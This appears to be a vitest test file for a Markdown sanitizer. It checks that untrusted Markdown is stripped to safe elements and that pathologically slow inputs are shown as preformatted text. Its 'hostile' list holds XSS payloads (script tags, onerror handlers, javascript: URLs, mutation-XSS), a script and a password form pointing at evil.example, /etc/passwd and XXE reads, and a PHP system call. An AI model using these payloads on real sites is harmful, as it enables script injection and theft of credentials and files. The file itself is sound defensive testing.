import { describe, expect, test, vi } from 'vitest'
import { formatProblems } from '../../../problem-report'
import { compileUntrusted } from '../compileUntrusted'
import { isSafeUrl } from '../safeText'
import type { TreeNode } from '../TreeNode'

const elements = [
  'a abbr b bdi bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img',
  'input ins kbd li mark ol p q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead',
  'time tr ul var wbr Admonition CodeBlock TableBox',
].flatMap((line) => line.split(' '))
const attributes = [
  'alt align aria-describedby aria-label checked className colSpan dir disabled href html id kind lang language open reversed rowSpan',
  'scope src start title type',
].flatMap((line) => line.split(' '))

const elementsIn = (tree: readonly TreeNode[]): Exclude<TreeNode, string>[] =>
  tree.flatMap((node) => (typeof node === 'string' ? [] : [node, ...elementsIn(node.slice(2) as TreeNode[])]))

const textIn = (tree: readonly TreeNode[]): string =>
  tree.map((node) => (typeof node === 'string' ? node : textIn(node.slice(2) as TreeNode[]))).join('')

const compile = (markdown: string) =>
  compileUntrusted(markdown, {
    file: 'x.md',
    idPrefix: 'readme-',
    resolveLink: (url) => url,
    resolveImage: (url) => ({ src: url }),
  })

const hostile = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img src=javascript:alert(1)>',
  '<img srcset="https://evil.example/x 2x" src="a.png">',
  '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"><embed src="x"></object>',
  '<form action="https://evil.example"><input name="password"><button>Go</button><textarea>x</textarea></form>',
  '<input type="image" src="x" onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>x</select>',
  '<style>*{display:none}</style><p style="position:fixed;inset:0" class="banner">x</p>',
  '<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<body onload=alert(1)><html manifest=x>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [z](<java\tscript:alert(1)>)',
  '<a href="&#106;avascript:alert(1)">x</a> <a href=" javascript:alert(1)">y</a> <a href="JaVaScRiPt:alert(1)">z</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a> [y](vbscript:x) [z](file:///etc/passwd)',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<javascript:alert(1)>',
  '<a href="/a" target="_blank" ping="https://evil.example" download onclick=alert(1)>x</a>',
  '<p id="___gatsby">x</p><p id="gatsby-focus-wrapper">y</p><a name="location">z</a>',
  '<div itemprop="x" slot="y" is="z" contenteditable dangerouslysetinnerhtml="x" data-x="y" aria-hidden="true" role="alert">x</div>',
  '{process.env.SECRET} ${process.env.SECRET} <%= process.env.SECRET %>',
  'import fs from "fs"\nexport const a = fs.readFileSync("/etc/passwd")',
  '<Tabs groupId={process.env.SECRET}><Include file="../../.env" /></Tabs>',
  '<div><p><b>never <i>closed',
  '</div></p></body></html>after',
  '<!-- never closed',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php system("id") ?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '<plaintext><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '<pre><code class="language-js x" onclick=alert(1)>a</code></pre>',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<h1>a</h1><h1>b</h1><h1>c</h1><h1>d</h1><h1>e</h1>',
  'a\u0000b\u202ec\u2066d\u0007e &#0; &#x202e; &#x2066; [f\u202e](/g\u202e "h\u0000") ![i\u2067](j.png)',
  '```\na\u202eb\u0000c\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[^1]\n\n[^1]: <script>alert(1)</script> [a](javascript:x)',
]

describe('hostile text', () => {
  test.each(hostile)('%j', async (markdown) => {
    const { tree, problems } = await compile(`before\n\n${markdown}`)
    expect(problems).toEqual([])
    expect(tree[0]).toEqual(expect.arrayContaining(['p']))
    expect(textIn(tree).startsWith('before')).toBe(true)
    for (const [tag, given] of elementsIn(tree)) {
      expect(elements).toContain(tag)
      for (const [name, value] of Object.entries(given === 0 ? {} : given)) {
        expect(attributes).toContain(name)
        if (name === 'href' || name === 'src') expect(isSafeUrl(String(value))).toBe(true)
        if (name === 'id') expect(value).not.toMatch(/^(_|gatsby)/)
        if (name === 'html') expect(value).not.toMatch(/<(?!span class="t-[a-z-]+">|\/span>)/)
        if (name === 'className') expect(value).toMatch(/^(footnotes|footnotes-title)$/)
      }
    }
    expect(JSON.stringify(tree)).not.toMatch(/\\u00[01]|[\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/)
  })

  test('is text where it looks like code', async () => {
    const { tree } = await compile('{process.env.SECRET}\n\nimport fs from "fs"')
    expect(tree).toEqual([
      ['p', 0, '{process.env.SECRET}'],
      ['p', 0, 'import fs from "fs"'],
    ])
  })

  test('controls leave their words', async () => {
    expect((await compile('<button>Go</button> <input> <label>a</label>')).tree).toEqual([['p', 0, 'Go  a']])
  })

  test('an unclosed tag closes with the text', async () => {
    expect((await compile('<div><b>a\n\n## B')).headings).toEqual([{ id: 'b', text: 'B', depth: 2 }])
  })

  test.each([
    ['lists', Array.from({ length: 80 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')],
    ['emphasis', '*a_'.repeat(300)],
    ['code', `\`\`\`js\n${'('.repeat(40_000)}\n\`\`\``],
    ['entities', '&amp;'.repeat(500)],
  ])('%s of some length are compiled', async (_, markdown) => {
    const { tree, problems, isPreformatted } = await compile(markdown)
    expect(problems).toEqual([])
    expect(isPreformatted).toBeUndefined()
    expect(tree.length).toBeGreaterThan(0)
  })
})

describe('Markdown that would take too long', () => {
  const limited = (markdown: string, seconds = 0.1) =>
    compileUntrusted(markdown, {
      file: 'https://example.com/README.md',
      idPrefix: 'readme-',
      resolveLink: (url) => url,
      resolveImage: () => undefined,
      seconds,
    })

  /** Brackets take half a second on a fast machine. */
  const little = 0.01

  // Without limits most of these take 10 s to more than 10 min.
  test.each([
    ['lists in lists', '- '.repeat(20_000)],
    ['quotations in quotations', '> '.repeat(20_000)],
    ['brackets', '['.repeat(100_000)],
    ['emphasis', '**a_'.repeat(100_000)],
    ['rows of a table', `|a|b|\n|-|-|\n${'|a|b|\n'.repeat(30_000)}`],
    ['references to footnotes', '[^a]'.repeat(100_000)],
    ['elements', '<div>'.repeat(50_000)],
  ])('%s: shown as it is written', async (_, markdown) => {
    const { tree, headings, problems, isPreformatted } = await limited(markdown, little)
    expect(isPreformatted).toBe(true)
    expect(headings).toEqual([])
    expect(tree).toEqual([['CodeBlock', expect.objectContaining({ language: 'Text' })]])
    expect(problems).toMatchObject([{ severity: 'warning', file: 'https://example.com/README.md' }])
  })

  test('is reported with its source, the reason and its beginning', async () => {
    const texts = [`# Title\n\n${'- '.repeat(60)}a`, '**a_'.repeat(50_000)]
    const results = await Promise.all(texts.map((text) => limited(text)))
    expect(formatProblems(results.flatMap(({ problems }) => problems))).toMatchInlineSnapshot(`
      "https://example.com/README.md
        Some Markdown is shown as preformatted text. Its lists or quotations are nested more than 50 levels deep. It starts with "# Title".
        Remove deep nesting and long runs of the same mark. To find the place, delete half of the text at a time.

      https://example.com/README.md
        Some Markdown is shown as preformatted text. It takes more than 2 s to compile. It starts with "**a_**a_**a_**a_**a_**a_**a_**a_**a_**a_**a_**a_**a_**a_**a_".
        Remove deep nesting and long runs of the same mark. To find the place, delete half of the text at a time."
    `)
  })

  test('is not 200 KB of ordinary text, as the first of a thread', { timeout: 60_000 }, async () => {
    await limited('['.repeat(100_000))
    const section =
      '## ![a](a.png) 1.1 Do it\n\n**TL;DR:** Take *care* of `a` and [read](./b.md) it.\n\n| a | b |\n|---|---|\n| x | y |\n\n'
    const { isPreformatted, headings } = await limited(section.repeat(200_000 / section.length), 2)
    expect(isPreformatted).toBeUndefined()
    expect(headings.length).toBeGreaterThan(1000)
  })

  test('does not keep the next document from being compiled', async () => {
    const slow = limited('['.repeat(100_000), little)
    const next = limited('Words and [a link](https://example.com/a). '.repeat(40), 10)
    expect((await slow).isPreformatted).toBe(true)
    expect((await next).isPreformatted).toBeUndefined()
    expect(JSON.stringify((await next).tree)).toContain('["a",{"href":"https://example.com/a"},"a link"]')
  })

  test('may take longer when this thread is busy', async () => {
    const resolveLink = vi.fn((url: string) => {
      const { user, system } = process.cpuUsage()
      for (let used = 0; used < 800_000;) used = process.cpuUsage().user + process.cpuUsage().system - user - system
      return url
    })
    const options = { file: 'x.md', idPrefix: 'readme-', resolveLink, resolveImage: () => undefined, seconds: 0.5 }
    expect(
      (await compileUntrusted(`[a link](https://example.com/a) ${'Words. '.repeat(200)}`, options)).isPreformatted,
    ).toBeUndefined()
    expect(resolveLink).toHaveBeenCalledTimes(1)
  })

  test('may take ten times as long on a machine that gives it no processor time', async () => {
    const cpuUsage = vi.spyOn(process, 'cpuUsage').mockReturnValue({ user: 0, system: 0 })
    expect((await limited('**a_'.repeat(100_000), 0.05)).isPreformatted).toBe(true)
    // Once at the start, then every 50 ms.
    expect(cpuUsage.mock.calls.length).toBeGreaterThan(10)
    cpuUsage.mockRestore()
  })
})
